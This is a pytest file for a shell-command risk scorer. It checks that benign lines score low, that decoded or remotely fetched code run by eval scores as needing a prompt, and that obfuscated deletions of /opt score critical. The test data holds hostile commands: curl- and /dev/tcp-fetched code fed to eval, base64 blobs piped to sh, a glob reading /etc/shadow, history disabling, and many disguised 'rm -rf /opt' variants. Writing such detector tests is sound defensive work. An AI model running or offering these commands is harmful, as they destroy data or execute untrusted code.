"""Commands that a line hides: what can be computed is judged by what it says, the rest is asked about if it runs."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.parsing.reading import read
from shellguard.risk.weigh import weigh

ASKED = 51
CRITICAL = 91

RUNS = [
    'eval "$(python3 -c \'print("".join([chr(c) for c in [108, 115]]))\')"',
    "echo aGVsbG8= | base64 -d",
    "python3 -c 'print(bytes.fromhex(\"6869\").decode())'",
    'perl -e \'print pack("H*", "6869")\'',
    "$(which python3 | tr -d '\\n') --version",
    "$(brew --prefix)/bin/x -V",
    'eval "$(ssh-agent -s)"',
    "eval \"$(grep ^export settings | sed 's/a/b/')\"",
    'awk \'BEGIN{print "a" "b"}\'',
    'node -e \'console.log("a" + "b")\'',
    "ruby -e 'puts \"abc\".reverse'",
    "python3 -c 'import os; print(vars(os)[\"name\"])'",
    "cat /etc/sys*.conf",
    "grep -r x /etc/*",
    "exec $SHELL",
    "x=$(curl -s https://example.com/name); echo $x",
    "x=$(cat name); $x",
    "env FOO=bar bash",
    "find . -name '*.c' | xargs -I{} echo {}",
    'for f in a b; do LIST+="$f "; done; echo $LIST',
    "CFLAGS+=' -O2'; make CFLAGS=\"$CFLAGS\"",
    'code=$(tool hook); eval "$code"',
    'enter() { local code; code="$(PS1="${PS1:-}" tool shell.posix "$@")" || return; eval "$code"; }; enter x',
    'local code="$(tool env)"; eval "$code"',
    "redis-cli get name | grep x",
]

ASKS = [
    "$(printf '%s' x | base64 -d -w0 /t/blob) -a",
    "eval \"$(python3 -c 'import sys; print(bytes.fromhex(sys.argv[1]).decode())' 6869)\"",
    'eval "$(perl -ne \'print pack("H*",$_)\' <<< 6869)"',
    "$(curl -s https://example.com/name) -x",
    "x=$(curl -s https://example.com/name); $x",
    "host -t TXT example.com | xargs -I{} sh -c {}",
    "bash -c \"$(sed -E 's/(.)(.)/\\2\\1/g' <<< 'm rr-')\"",
    "cat /e??/sha*w",
    "env HISTFILE=/dev/null bash",
    'php -r \'$f=base64_decode("c3lzdGVt");$f("id");\'',
    "echo H4sIAAAAAAAA | base64 -d | gunzip | sh",
    'code=$(curl -s https://example.com/x); eval "$code"',
    'local code="$(curl -s https://example.com/x)"; bash -c "$code"',
    'code=$(tool hook); read -r code; eval "$code"',
    'code=$(tool hook); code=$other; eval "$code"',
    'code=$(tool hook); eval "$code $other"',
    'eval "$(cat < /dev/tcp/192.0.2.1/80)"',
    'eval "$(redis-cli get x)"',
    'eval "$(strings photo.jpg | tail -1)"',
]

REMOVES_A_FOLDER_OF_THE_SYSTEM = [
    's=; for i in 72 6d; do s+="\\x$i"; done; $(printf "$s") -rf /opt',
    'for c in 114 109; do s+=$(printf "\\\\$(printf %03o $c)"); done; $s -rf /opt',
    "x='tpo/ fr- mr'; for ((i=${#x}-1;i>=0;i--)); do y+=${x:$i:1}; done; eval $y",
    "a=(r m); ${a[0]}${a[1]} -rf /opt",
    "$(awk 'BEGIN{printf \"%c%c\", 114, 109}') -rf /opt",
    'eval "$(python3 -c \'print("tpo/ fr- mr"[::-1])\')"',
    "$(ls /bin/rm) -rf /opt",
    'awk \'BEGIN{system("r" "m -rf /opt")}\'',
    'perl -e \'exec("r"."m","-rf","/opt")\'',
    'ruby -e \'exec "mr".reverse, "-rf", "/opt"\'',
    'lua -e \'os["exec".."ute"]("rm -rf /opt")\'',
    'python3 -c \'import os; os.__dict__["sys"+"tem"]("rm -rf /opt")\'',
    'python3 -c \'import os as o; x=o.__getattribute__("system"); x("rm -rf /opt")\'',
    "$(find /bin -name 'r?' | head -1) -rf /opt",
    "mapfile -t a < <(printf '%s\\n' rm -rf /opt); \"${a[@]}\"",
    "declare -l x; x='RM -RF /OPT'; eval \"$x\"",
]


def score(line: str) -> int:
    script = read(line)
    return weigh(script, effects_of(script)).score


@pytest.mark.parametrize("line", RUNS)
def test_what_only_prints_or_is_plain_runs(line: str) -> None:
    assert score(line) < ASKED


@pytest.mark.parametrize("line", ASKS)
def test_what_is_decoded_and_run_is_asked_about(line: str) -> None:
    assert score(line) >= ASKED


@pytest.mark.parametrize("line", REMOVES_A_FOLDER_OF_THE_SYSTEM)
def test_what_can_be_computed_is_judged_by_what_it_says(line: str) -> None:
    assert score(line) >= CRITICAL
